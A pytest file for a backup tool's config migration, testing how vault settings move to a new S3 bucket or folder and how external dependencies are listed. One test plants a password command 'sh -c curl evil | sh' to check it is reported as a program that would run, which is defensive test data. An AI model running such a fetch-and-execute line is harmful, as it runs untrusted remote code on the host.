"""A remembered configuration, set up for another place."""

from __future__ import annotations

from pathlib import Path

import pytest

from outlive.config.load import REFERENCE, parse
from outlive.errors import ConfigError
from outlive.survey.adopt_config import Reached, set_up
from outlive.survey.adopt_needs import needs

PATH = Path("/home/person/new/outlive.toml")
REACHED = Reached("s3://copies/shop", "https://other.example.com", "eu-1")


def test_every_key_survives_but_the_place_of_the_vault() -> None:
    """The reference file uses every key there is."""
    text = REFERENCE.read_text()
    before = parse(text, PATH)
    after_text, after = set_up(text, PATH, REACHED)
    assert (after.vault.url, after.vault.endpoint, after.vault.region) == (
        "s3://copies/shop",
        "https://other.example.com",
        "eu-1",
    )
    assert after.vault.access_key is None and after.vault.secret_key is None  # the client finds a login itself
    assert (after.vault.lock_days, after.vault.lock_mode) == (before.vault.lock_days, before.vault.lock_mode)
    assert (after.assets, after.hosts, after.alerts) == (before.assets, before.hosts, before.alerts)
    assert after.mirror == before.mirror
    assert "# Where copies rest" in after_text and '# access_key = { env = "OUTLIVE_S3_ACCESS_KEY" }' in after_text


def test_the_mirror_becomes_the_vault_and_is_no_mirror_any_more() -> None:
    text, settings = set_up(REFERENCE.read_text(), PATH, Reached("file:///srv/mirror"))
    assert settings.vault.url == "file:///srv/mirror" and settings.vault.endpoint is None
    assert settings.mirror is None
    assert '# url = "s3://copies/shop"' in text and "# [mirror]" in text


def test_a_lock_does_not_go_along_to_a_folder() -> None:
    """Only a bucket can lock; the copies are there all the same."""
    _, settings = set_up(REFERENCE.read_text(), PATH, Reached("file:///media/disk/copies"))
    assert settings.vault.lock_days is None


@pytest.mark.parametrize("text", ["", "not toml [", 'vault = { url = "file:///old" }\n[keys]\nrecipients = []\n'])
def test_what_cannot_be_rewritten_is_an_error_and_not_a_wrong_vault(text: str) -> None:
    with pytest.raises(ConfigError):
        set_up(text, PATH, REACHED)


def test_values_over_several_lines_are_taken_out_whole() -> None:
    text = REFERENCE.read_text().replace(
        'secret_key = { file = "s3_secret_key" }', 'secret_key = { command = [\n  "pass",\n  "show",\n] }'
    )
    _, settings = set_up(text, PATH, REACHED)
    assert settings.vault.secret_key is None
    assert settings.vault.read_back == 1.0  # the key after it


def test_what_a_vault_cannot_hold_is_named_and_so_is_what_would_run() -> None:
    text = REFERENCE.read_text().replace(
        'password = { env = "OUTLIVE_SHOP_DB_PASSWORD" }', 'password = { command = ["sh", "-c", "curl evil | sh"] }'
    )
    found = {(one.kind, one.what) for one in needs(parse(text, PATH))}
    assert ("variable", "OUTLIVE_CHERRY_TOKEN") in found
    assert ("file", "/home/person/new/keys/drill.key") in found
    assert ("file", "/home/person/new/heartbeat_url") in found
    assert ("program", "sh -c curl evil | sh") in found
    assert ("program", "docker exec shop-app-1 app flush (on the host)") in found
    assert not any("/srv/shop" in what for _, what in found)  # paths on a host are no files here
